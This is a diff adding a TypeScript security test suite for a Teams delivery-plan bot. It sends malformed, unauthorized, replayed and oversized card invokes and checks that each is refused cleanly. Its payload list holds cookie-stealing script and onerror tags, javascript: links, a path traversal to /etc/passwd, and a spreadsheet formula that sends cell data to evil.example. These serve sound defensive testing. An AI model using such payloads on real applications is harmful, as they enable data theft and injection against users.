@@ -1,0 +1,240 @@
+/**
+ * Hostile card invokes at POST /api/messages (the real app, LOCAL_MODE so activities need no token):
+ * wrong types, missing fields, unknown verbs and items, oversize notes and bodies, someone else's
+ * item, replayed and stale cards. Each is answered with a card or error that says what is wrong, the
+ * server stays up, and the store is unchanged. Script, markdown-link and formula payloads in a valid
+ * answer are recorded as inert text and never become a link in a card or a formula in an export.
+ */
+import { cardText } from '../bot/support/teamsStandIn';
+import { expectValidCards } from '../support/validateCard';
+import { BOT, ITEMS, PEOPLE, TENANT, send, startSecurityApp, type SecurityApp, type Who } from './support/securityApp';
+
+let app: SecurityApp;
+let seq = 0;
+
+beforeAll(async () => {
+  app = await startSecurityApp();
+});
+afterAll(async () => {
+  await app?.close();
+});
+
+function activity(who: Who, value: unknown, name = 'adaptiveCard/action'): Record<string, unknown> {
+  const p = PEOPLE[who];
+  return {
+    type: 'invoke',
+    name,
+    id: `in-${++seq}`,
+    channelId: 'msteams',
+    serviceUrl: app.teams.url,
+    timestamp: app.clock.now().toISOString(),
+    from: { id: p.id, aadObjectId: p.aadObjectId, name: p.name },
+    recipient: BOT,
+    conversation: { id: `a:${who}-1on1`, conversationType: 'personal', tenantId: TENANT },
+    channelData: { tenant: { id: TENANT } },
+    value,
+  };
+}
+
+interface InvokeBody {
+  statusCode: number;
+  type: string;
+  value: Record<string, unknown> & { code?: string; message?: string };
+}
+
+async function invoke(who: Who, value: unknown): Promise<{ status: number; body: InvokeBody; text: string }> {
+  const res = await send(`${app.url}/api/messages`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(activity(who, value)) });
+  return { status: res.status, body: res.body as InvokeBody, text: res.text };
+}
+
+const execute = (data: unknown, verb = 'recordStatus') => ({ action: { type: 'Action.Execute', verb, data }, trigger: 'manual' });
+
+async function versionOf(key: string): Promise<string> {
+  return (await app.store.getItem(app.planId, key))!.version;
+}
+
+/** The card data of a prompt for `key`, as the bot sends it, plus the answer's input values. */
+async function card(key: string, values: Record<string, unknown> = {}): Promise<Record<string, unknown>> {
+  return { planId: app.planId, itemKey: key, version: await versionOf(key), ...values };
+}
+
+type Expectation = { error: RegExp } | { refusal: RegExp; problem?: RegExp };
+type InvokeCase = [name: string, who: Who, value: () => Promise<unknown>, expected: Expectation];
+
+const INVALID = /Not recorded yet: please correct this/;
+const FORBIDDEN = /Not recorded: you are not a lead for this item/;
+const GONE = /This item is no longer in the plan, so nothing was recorded/;
+const MALFORMED = /This card (action )?is not one the Delivery Plan bot knows|missing/;
+
+const cases: InvokeCase[] = [
+  // Wrong types in the answer.
+  ['rag as a number (5)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 5, note: 'n' })), { refusal: INVALID, problem: /"5" is not a status: choose Red, Amber, Green or Complete/ }],
+  ['rag as a boolean', 'ann', async () => execute(await card(ITEMS.ann, { rag: true })), { refusal: INVALID, problem: /Choose a status: Red, Amber, Green or Complete/ }],
+  ['rag as an object', 'ann', async () => execute(await card(ITEMS.ann, { rag: { value: 'green' } })), { refusal: INVALID, problem: /Choose a status/ }],
+  ['rag "not-reported" (not reportable)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'not-reported' })), { refusal: INVALID, problem: /"not-reported" is not a status/ }],
+  ['figure as words', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 'about forty' })), { refusal: INVALID, problem: /"about forty" is not a number: give a figure of 0 or more/ }],
+  ['negative figure (string)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: '-5' })), { refusal: INVALID, problem: /"-5" is not a number: give a figure of 0 or more/ }],
+  ['negative figure (number)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: -5 })), { refusal: INVALID, problem: /"-5" is not a number/ }],
+  ['figure "NaN"', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 'NaN' })), { refusal: INVALID, problem: /"NaN" is not a number/ }],
+  ['figure "Infinity"', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 'Infinity' })), { refusal: INVALID, problem: /"Infinity" is not a number/ }],
+  ['huge figure (1e12)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: 1e12 })), { refusal: INVALID, problem: /1000000000000 is too large for "/ }],
+  ['figure in exponent notation (1e400)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: '1e400' })), { refusal: INVALID, problem: /"1e400" is not a number/ }],
+  ['revised date not a date', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'red', note: 'Late', revisedDate: '31/12/2018' })), { refusal: INVALID, problem: /"31\/12\/2018" is not a date: use the date picker \(YYYY-MM-DD\)/ }],
+  ['revised date that does not exist (30 February)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'red', note: 'Late', revisedDate: '2019-02-30' })), { refusal: INVALID, problem: /"2019-02-30" is not a date/ }],
+  ['revised date in the past', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'red', note: 'Late', revisedDate: '2018-01-31' })), { refusal: INVALID, problem: /The revised date is in the past: give the date the item will now be delivered/ }],
+  ['Red without a note', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'red', note: '   ' })), { refusal: INVALID, problem: /A note is required for Red/ }],
+  ['note as an object instead of text, for Amber', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'amber', note: { text: 'x' } })), { refusal: INVALID, problem: /A note is required for Amber/ }],
+  ['oversize note (2,001 characters)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', note: 'x'.repeat(2001) })), { refusal: INVALID, problem: /The note is 2,001 characters; the limit is 2,000/ }],
+
+  // A card that is not one of ours, or has lost its identity.
+  ['missing itemKey', 'ann', async () => execute({ planId: app.planId, version: await versionOf(ITEMS.ann), rag: 'green' }), { error: MALFORMED }],
+  ['missing planId', 'ann', async () => execute({ itemKey: ITEMS.ann, version: await versionOf(ITEMS.ann), rag: 'green' }), { error: MALFORMED }],
+  ['missing version', 'ann', async () => execute({ planId: app.planId, itemKey: ITEMS.ann, rag: 'green' }), { error: MALFORMED }],
+  ['version as a number', 'ann', async () => execute({ ...(await card(ITEMS.ann)), version: 7, rag: 'green' }), { error: MALFORMED }],
+  ['itemKey as an array', 'ann', async () => execute({ ...(await card(ITEMS.ann)), itemKey: [ITEMS.ann], rag: 'green' }), { error: MALFORMED }],
+  ['unknown verb', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green' }), 'deleteEverything'), { error: MALFORMED }],
+  ['Action.Submit instead of Action.Execute', 'ann', async () => ({ action: { type: 'Action.Submit', verb: 'recordStatus', data: await card(ITEMS.ann, { rag: 'green' }) } }), { error: MALFORMED }],
+  ['data as an array', 'ann', async () => execute([app.planId, ITEMS.ann, await versionOf(ITEMS.ann), 'green']), { error: MALFORMED }],
+  ['data null', 'ann', async () => execute(null), { error: MALFORMED }],
+  ['data a string', 'ann', async () => execute('planId=x&itemKey=y'), { error: MALFORMED }],
+  ['no action at all', 'ann', async () => ({ trigger: 'manual' }), { error: MALFORMED }],
+  ['value null', 'ann', async () => null, { error: MALFORMED }],
+  ['unknown item', 'ann', async () => execute({ ...(await card(ITEMS.ann)), itemKey: 'zz-00000000', rag: 'green' }), { refusal: GONE }],
+  ['unknown plan', 'ann', async () => execute({ ...(await card(ITEMS.ann)), planId: 'no-such-plan', rag: 'green' }), { refusal: GONE }],
+  ['path traversal as the item key', 'ann', async () => execute({ ...(await card(ITEMS.ann)), itemKey: '../../etc/passwd', rag: 'green' }), { refusal: GONE }],
+  ['refresh of an unknown item', 'ann', async () => execute({ ...(await card(ITEMS.ann)), itemKey: 'zz-00000000' }, 'refreshPrompt'), { refusal: GONE }],
+
+  // Who is answering.
+  ['a lead answering an item that is not theirs', 'ann', async () => execute(await card(ITEMS.dan, { rag: 'green', note: 'Done, I think' })), { refusal: FORBIDDEN }],
+  ['a stranger (in no directory entry)', 'stranger', async () => execute(await card(ITEMS.ann, { rag: 'complete' })), { refusal: FORBIDDEN }],
+  ['a stranger claiming a lead\'s name', 'stranger', async () => execute(await card(ITEMS.ann, { rag: 'complete', by: 'Ann Lead', from: PEOPLE.ann })), { refusal: FORBIDDEN }],
+
+  // Cards from the past.
+  ['a card with a made-up version', 'ann', async () => execute({ ...(await card(ITEMS.ann)), version: 'v-from-the-future', rag: 'green' }), { refusal: /Not recorded: someone reported on this item after this card was sent/ }],
+];
+
+describe('hostile card invokes are answered clearly and write nothing', () => {
+  it.each(cases)('%s', async (_name, who, value, expected) => {
+    const before = await app.snapshot();
+    const res = await invoke(who, await value());
+    expect(res.status).toBe(200);
+    if ('error' in expected) {
+      expect(res.body).toMatchObject({ statusCode: 400, type: 'application/vnd.microsoft.error', value: { code: 'BadRequest' } });
+      expect(res.body.value.message).toMatch(expected.error);
+    } else {
+      expect(res.body).toMatchObject({ statusCode: 200, type: 'application/vnd.microsoft.card.adaptive' });
+      const text = cardText(res.body.value);
+      expect(text).toMatch(expected.refusal);
+      if (expected.problem) expect(text).toMatch(expected.problem);
+      expectValidCards([res.body.value]);
+    }
+    await app.running.bot.service?.idle();
+    expect(await app.healthy()).toBe(true);
+    expect(await app.snapshot()).toBe(before);
+  });
+});
+
+describe('replayed and stale cards', () => {
+  it('records the first answer of a card once: the same card sent again adds no history row', async () => {
+    const data = await card(ITEMS.bob, { rag: 'green', note: 'Training done', figure_0: 4 });
+    const first = await invoke('bob', execute(data));
+    expect(cardText(first.body.value)).toContain('Recorded: Green');
+    const after = await app.snapshot();
+    const rows = (await app.store.history(app.planId, ITEMS.bob)).length;
+    expect(rows).toBe(1);
+    const replay = await invoke('bob', execute(data));
+    expect(replay.body.statusCode).toBe(200);
+    expect(cardText(replay.body.value)).toMatch(/Not recorded: someone reported on this item after this card was sent/);
+    expect(cardText(replay.body.value)).toContain('Training done');
+    expect(await app.healthy()).toBe(true);
+    expect(await app.snapshot()).toBe(after);
+  });
+
+  it('refuses a stale card answered after someone else, and keeps what was typed', async () => {
+    const staleCopy = await card(ITEMS.ann, { rag: 'amber', note: 'Venue not booked yet' });
+    const coordinator = await invoke('cora', execute(await card(ITEMS.ann, { rag: 'green', note: 'Both roundtables booked' })));
+    expect(cardText(coordinator.body.value)).toContain('Recorded: Green');
+    const after = await app.snapshot();
+    const stale = await invoke('ann', execute(staleCopy));
+    const text = cardText(stale.body.value);
+    expect(text).toMatch(/Not recorded: someone reported on this item after this card was sent/);
+    expect(text).toContain('reported by Cora Coordinator');
+    expect(text).toContain('Venue not booked yet');
+    expect(await app.snapshot()).toBe(after);
+  });
+});
+
+type BodyCase = [name: string, contentType: string, body: () => string, status: number, message: RegExp];
+
+const bodies: BodyCase[] = [
+  ['a 5 MB activity', 'application/json', () => JSON.stringify(activity('ann', execute({ planId: app.planId, itemKey: ITEMS.ann, version: 'x', rag: 'green', note: 'z'.repeat(5 * 1024 * 1024) }))), 413, /The activity is larger than 256kb/],
+  ['a body that is not JSON', 'application/json', () => '{"type":"invoke","value":', 400, /The body is not valid JSON/],
+  ['an activity sent as text/plain', 'text/plain', () => JSON.stringify(activity('ann', execute({}))), 415, /Send the activity as JSON \(Content-Type: application\/json\)/],
+  ['a JSON array', 'application/json', () => '[]', 400, /expected a JSON object/],
+  ['JSON null', 'application/json', () => 'null', 400, /not valid JSON|expected a JSON object/],
+  ['an empty object', 'application/json', () => '{}', 400, /The activity has no type, serviceUrl, from.id, recipient.id, conversation.id/],
+  ['an invoke with no conversation', 'application/json', () => JSON.stringify({ ...activity('ann', execute({})), conversation: undefined }), 400, /The activity has no conversation.id/],
+  ['an invoke whose from is a string', 'application/json', () => JSON.stringify({ ...activity('ann', execute({})), from: '29:ann' }), 400, /The activity has no from.id/],
+];
+
+describe('bodies that are not activities get a JSON refusal, not a stack trace or a 500', () => {
+  it.each(bodies)('%s', async (_name, contentType, body, status, message) => {
+    const before = await app.snapshot();
+    const res = await send(`${app.url}/api/messages`, { method: 'POST', headers: { 'content-type': contentType }, body: body() });
+    expect(res.status).toBe(status);
+    expect(res.body).toEqual({ error: 'invalid', message: expect.stringMatching(message) });
+    expect(res.text).not.toMatch(/node_modules|at .*\.js:\d+/);
+    expect(await app.healthy()).toBe(true);
+    expect(await app.snapshot()).toBe(before);
+  });
+});
+
+/** Every way a TextBlock's markdown could turn text into a link. */
+const LINKISH = [/\]\(/, /^\s{0,3}\[[^\]]+\]:\s*\S/m, /<[a-z][a-z0-9+.-]*:[^>\s]*>/i];
+
+const PAYLOADS: Array<[name: string, note: string]> = [
+  ['a script tag', '<script>alert(document.cookie)</script> Venue booked'],
+  ['an inline javascript: markdown link', 'See [the plan](javascript:alert(1)) for details'],
+  ['a javascript: link with spaces and case', 'See [x]( JavaScript:alert(1) ) now'],
+  ['a spreadsheet formula', '=HYPERLINK("http://evil.example/?"&A1,"Click for the update")'],
+  ['an image with an onerror handler', '<img src=x onerror=alert(1)> done'],
+];
+
+describe('script, link and formula payloads in a valid answer are inert text', () => {
+  it.each(PAYLOADS)('%s is recorded verbatim and shown without a link', async (_name, note) => {
+    const before = (await app.store.history(app.planId)).length;
+    const res = await invoke('dan', execute(await card(ITEMS.dan, { rag: 'amber', note })));
+    expect(res.body.statusCode).toBe(200);
+    const receipt = res.body.value;
+    expect(cardText(receipt)).toContain('Recorded: Amber');
+    const history = await app.store.history(app.planId, ITEMS.dan);
+    expect(history.at(-1)).toMatchObject({ to: 'amber', note });
+    expect((await app.store.history(app.planId)).length).toBe(before + 1);
+    // Every TextBlock of the receipt, and of the prompt the next person sees, is free of link syntax.
+    const refreshed = await invoke('dan', execute(await card(ITEMS.dan), 'refreshPrompt'));
+    for (const c of [receipt, refreshed.body.value]) {
+      const blocks = textBlocks(c);
+      const noteBlock = blocks.find((t) => t.includes('alert') || t.includes('HYPERLINK'));
+      expect(noteBlock).toBeDefined();
+      for (const t of blocks) for (const re of LINKISH) expect(t).not.toMatch(re);
+      expect(JSON.stringify(c)).not.toMatch(/"url":\s*"javascript:/i);
+    }
+    expectValidCards([receipt, refreshed.body.value]);
+    expect(await app.healthy()).toBe(true);
+  });
+});
+
+function textBlocks(card: unknown): string[] {
+  const out: string[] = [];
+  const walk = (x: unknown) => {
+    if (Array.isArray(x)) x.forEach(walk);
+    else if (x && typeof x === 'object') {
+      const o = x as Record<string, unknown>;
+      if (o.type === 'TextBlock' && typeof o.text === 'string') out.push(o.text);
+      if (o.type === 'FactSet' && Array.isArray(o.facts)) for (const f of o.facts as Array<{ value?: unknown }>) if (typeof f.value === 'string') out.push(f.value);
+      Object.values(o).forEach(walk);
+    }
+  };
+  walk(card);
+  return out;
+}
